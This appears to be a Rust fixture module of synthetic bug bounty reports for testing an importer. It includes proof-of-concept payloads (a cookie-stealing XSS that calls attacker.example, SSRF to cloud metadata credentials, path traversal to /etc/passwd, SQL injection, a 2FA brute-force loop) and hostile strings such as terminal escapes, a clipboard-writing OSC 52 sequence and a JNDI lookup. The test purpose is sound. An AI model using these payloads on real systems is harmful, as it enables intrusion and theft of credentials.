//! What reporters write: titles and bodies in Markdown, by kind of mistake, and texts that attack a terminal.
//!
//! Must never be in here: chance, or real reports.

use super::super::model::Weakness;

/// Kinds of mistakes with titles; `{area}` is where it was found.
pub(super) struct Mistake {
    pub(super) weakness: Weakness,
    pub(super) titles: &'static [&'static str],
    /// What somebody could do with it.
    pub(super) impact: &'static str,
    /// Language and text of the proof.
    pub(super) proof: (&'static str, &'static str),
}

/// Where things were found, and the asset it belongs to. The first word is a service's tag.
pub(super) const AREAS: [(&str, &str); 12] = [
    ("the refund dialog", "payments.example.com"),
    ("the payment link page", "payments.example.com"),
    ("the voucher field", "checkout.example.com"),
    ("the guest checkout", "checkout.example.com"),
    ("the monthly statement export", "ledger.example.com"),
    ("the balance endpoint", "api.ledger.example.com"),
    ("the merchant profile", "dashboard.example.com"),
    ("the team invitation", "dashboard.example.com"),
    ("the deep link handler", "com.example.pay"),
    ("the push notification settings", "com.example.pay"),
    ("the status page", "infra.example.com"),
    ("the card reader's update service", "card-reader"),
];

pub(super) const MISTAKES: [Mistake; 12] = [
    Mistake {
        weakness: Weakness {
            name: "Cross-site Scripting (XSS) - Stored",
            cwe: 79,
        },
        titles: &[
            "Stored XSS in {area} through the display name",
            "Script runs for support staff from {area}",
        ],
        impact: "An attacker runs script as every person who opens the page, support staff included.",
        proof: (
            "html",
            "<img src=x onerror=\"fetch('https://attacker.example/?c='+document.cookie)\">",
        ),
    },
    Mistake {
        weakness: Weakness {
            name: "Insecure Direct Object Reference (IDOR)",
            cwe: 639,
        },
        titles: &[
            "IDOR in {area} shows other merchants' data",
            "Changing the id in {area} reads anybody's receipts",
        ],
        impact: "Names, addresses and amounts of other merchants' customers can be read one by one.",
        proof: (
            "http",
            "GET /v2/receipts/1000231 HTTP/1.1\nHost: api.example.com\nAuthorization: Bearer <own token>",
        ),
    },
    Mistake {
        weakness: Weakness {
            name: "SQL Injection",
            cwe: 89,
        },
        titles: &[
            "Blind SQL injection in {area}",
            "Time-based SQL injection through the sort order of {area}",
        ],
        impact: "The whole database can be read, at about forty bytes a minute.",
        proof: (
            "sh",
            "curl 'https://api.example.com/list?sort=name,(select%20pg_sleep(5))' -w '%{time_total}\\n'",
        ),
    },
    Mistake {
        weakness: Weakness {
            name: "Server-Side Request Forgery (SSRF)",
            cwe: 918,
        },
        titles: &[
            "SSRF in {area} reaches the metadata service",
            "{area} fetches internal addresses",
        ],
        impact: "Credentials of the instance's role can be read from the metadata service.",
        proof: (
            "json",
            "{\"webhook\": \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\"}",
        ),
    },
    Mistake {
        weakness: Weakness {
            name: "Cross-Site Request Forgery (CSRF)",
            cwe: 352,
        },
        titles: &[
            "CSRF on {area} changes the payout account",
            "No anti-forgery token on {area}",
        ],
        impact: "A merchant who visits a page of the attacker's changes their own settings.",
        proof: (
            "html",
            "<form action=\"https://dashboard.example.com/settings\" method=\"post\"><input name=\"iban\" value=\"…\"></form>",
        ),
    },
    Mistake {
        weakness: Weakness {
            name: "Improper Authentication",
            cwe: 287,
        },
        titles: &[
            "Second factor can be skipped in {area}",
            "Password reset of {area} accepts old tokens",
        ],
        impact: "An account can be taken over with nothing but its password.",
        proof: (
            "python",
            "for code in range(1_000_000):\n    r = s.post(URL, json={\"code\": f\"{code:06}\"})\n    if r.ok:\n        print(code)\n        break",
        ),
    },
    Mistake {
        weakness: Weakness {
            name: "Information Disclosure",
            cwe: 200,
        },
        titles: &[
            "{area} tells internal host names in errors",
            "Stack trace with secrets from {area}",
        ],
        impact: "Versions and host names make other attacks easier.",
        proof: (
            "text",
            "java.sql.SQLException: Access denied for user 'ledger'@'10.12.4.7'\n\tat com.example.ledger.Db.open(Db.java:41)",
        ),
    },
    Mistake {
        weakness: Weakness {
            name: "Business Logic Errors",
            cwe: 840,
        },
        titles: &[
            "Negative quantity gives money back in {area}",
            "The same voucher twice in {area} by racing",
        ],
        impact: "Goods can be bought for nothing, or for less.",
        proof: (
            "sh",
            "seq 20 | xargs -P20 -I{} curl -s -X POST https://checkout.example.com/voucher -d code=WELCOME10",
        ),
    },
    Mistake {
        weakness: Weakness {
            name: "Open Redirect",
            cwe: 601,
        },
        titles: &["Open redirect in {area}", "{area} redirects to any host after sign-in"],
        impact: "A link that begins with the company's name leads to a copy of the sign-in page.",
        proof: ("text", "https://dashboard.example.com/login?next=//attacker.example"),
    },
    Mistake {
        weakness: Weakness {
            name: "Uncontrolled Resource Consumption",
            cwe: 400,
        },
        titles: &[
            "A 2 KB request keeps {area} busy for a minute",
            "Regular expression of {area} blows up",
        ],
        impact: "A handful of requests make the service unavailable to everybody.",
        proof: (
            "python",
            "requests.post(URL, json={\"email\": \"a\" * 40_000 + \"!\"}, timeout=90)",
        ),
    },
    Mistake {
        weakness: Weakness {
            name: "Path Traversal",
            cwe: 22,
        },
        titles: &[
            "Path traversal in {area} reads files of the server",
            "File names of {area} are not cleaned",
        ],
        impact: "Configuration with credentials can be downloaded.",
        proof: (
            "sh",
            "curl --path-as-is 'https://ledger.example.com/export/..%2f..%2f..%2fetc/passwd'",
        ),
    },
    Mistake {
        weakness: Weakness {
            name: "Use of Hard-coded Credentials",
            cwe: 798,
        },
        titles: &["Key of the map provider in {area}", "Hard-coded token in {area}"],
        impact: "The key can be used by anybody, at the company's expense.",
        proof: (
            "xml",
            "<string name=\"maps_key\">AIzaSyEXAMPLEEXAMPLEEXAMPLEEXAMPLE</string>",
        ),
    },
];

/// A whole report in Markdown; `{…}` are filled in. `{file}` is how HackerOne refers to an attachment.
pub(super) const BODIES: [&str; 4] = [
    "## Summary\n\n{title}. I found it while looking at {area}.\n\n## Steps to reproduce\n\n1. Sign in as an ordinary \
     merchant.\n2. Open {area} on `{asset}`.\n3. Send this:\n\n```{language}\n{proof}\n```\n\n4. Look at the answer.\n\n\
     ## Impact\n\n{impact}\n\n{file}\n",
    "**Asset:** {asset}\n**Where:** {area}\n\n| Step | What happens | What should happen |\n| --- | --- | --- |\n\
     | 1 | the request is accepted | `403` |\n| 2 | data of *another* account comes back | nothing |\n\n\
     > {impact}\n\nProof of concept:\n\n```{language}\n{proof}\n```\n\n![what I see](https://files.example.com/shot.png)\n",
    "Hi team,\n\nin {area} ([{asset}](https://{asset}/)) there is this problem:\n\n* {impact}\n* It works in Firefox and \
     in Chrome.\n  * Not in Safari, which ~~blocks~~ refuses it.\n\n```\n{proof}\n```\n\nPlease tell me if you need \
     more. Regards!\n",
    "# {title}\n\n### Description\n{impact}\n\n### Proof\n```{language}\n{proof}\n```\n\n### Suggested fix\n\n\
     - [ ] check the account on **every** request\n- [x] log refusals\n\n---\n\n<details><summary>Raw request</summary>\n\n\
     ```http\nPOST / HTTP/2\nHost: {asset}\n```\n\n</details>\n\nReferences: <https://cwe.mitre.org/>, \
     https://owasp.org/ and [^1].\n\n[^1]: {file}\n",
];

/// Titles and bodies that break naive programs.
pub(super) const HOSTILE: [(&str, &str); 10] = [
    ("", "A report without a title."),
    (
        "\u{1b}[2J\u{1b}[31mcritical\u{1b}[0m \u{1b}]0;owned\u{7}",
        "\u{1b}]52;c;ZXZpbA==\u{7} clears \u{9b}2J the screen",
    ),
    (
        "Reversed \u{202e}gnp.tpiecer\u{202c} in the file name",
        "A \u{2067}right-to-left isolate\u{2069} and a \u{200f}mark.",
    ),
    (
        "Two lines\nand a\ttab in the title",
        "{panel}not a panel{panel}\n\nh1. not a heading\n\n[~admin] {color:red}*x*{color} !image.png! ||a||b||",
    ),
    (
        "Markup in the title: {code}x{code} *bold* [link|javascript:alert(1)]",
        "<script>alert(1)</script> <iframe src=\"https://attacker.example\"></iframe> [x](javascript:alert(1))",
    ),
    (
        "決済画面で他人の領収書が見える",
        "再現手順:\n\n1. ログインする\n2. `id` を変える\n\n| 項目 | 値 |\n|---|---|\n| 環境 | 本番 |\n",
    ),
    ("الدفع بدون مصادقة", "يمكن تنفيذ عملية الدفع بدون مصادقة."),
    (
        "Template in the title: {{title}} ${jndi:ldap://x} %s %n {{summary|truncate(5)}}",
        "{{vulnerability_information}} {{severity}} {% raw %} {{ 7*7 }}",
    ),
    (
        "Very long word DonaudampfschifffahrtsgesellschaftskapitänDonaudampfschifffahrtsgesellschaftskapitän\
         DonaudampfschifffahrtsgesellschaftskapitänDonaudampfschifffahrtsgesellschaftskapitän\
         DonaudampfschifffahrtsgesellschaftskapitänDonaudampfschifffahrtsgesellschaftskapitän and more than Jira takes",
        "```\nunclosed code\n| half | a table\n> * nested\n  > - lists [and](brackets",
    ),
    (
        "NUL \u{0} bell \u{7} and zero width pay\u{200b}ment\u{feff}",
        "Combining: Z\u{351}\u{36b}\u{343}a\u{30a}\u{363}lgo",
    ),
];

/// What reporters say.
pub(super) const REPORTER_SAYS: [&str; 6] = [
    "Any news on this?",
    "I retested it today, it still works.",
    "Thanks for the quick triage!",
    "Here is another way to trigger it:\n\n```\ncurl -k https://example.com/%2e%2e/\n```",
    "I attached a video.",
    "Fixed on my side, the old request is refused now.",
];

/// What the team says among themselves.
pub(super) const TEAM_SAYS: [&str; 6] = [
    "Reproduced on staging.",
    "@{person} can you take this?",
    "Same root cause as the one from last month, see the linked issue.",
    "Lowering the severity: needs an authenticated merchant.",
    "Fix is in review.",
    "Rolled out, waiting for the retest.",
];

/// Kinds of activities that no state leads to, the last of which nobody knows.
pub(super) const ODD: [&str; 14] = [
    "report-title-updated",
    "changed-scope",
    "vote-comment",
    "not-eligible-for-bounty",
    "hacker-requested-mediation",
    "cancelled-disclosure-request",
    "report-vulnerability-types-updated",
    "nobody-assigned-to-bug",
    "agreed-on-going-public",
    "manually-disclosed",
    "comments-closed",
    "report-severity-updated",
    "bug-reopened",
    "report-was-seen-in-a-dream",
];
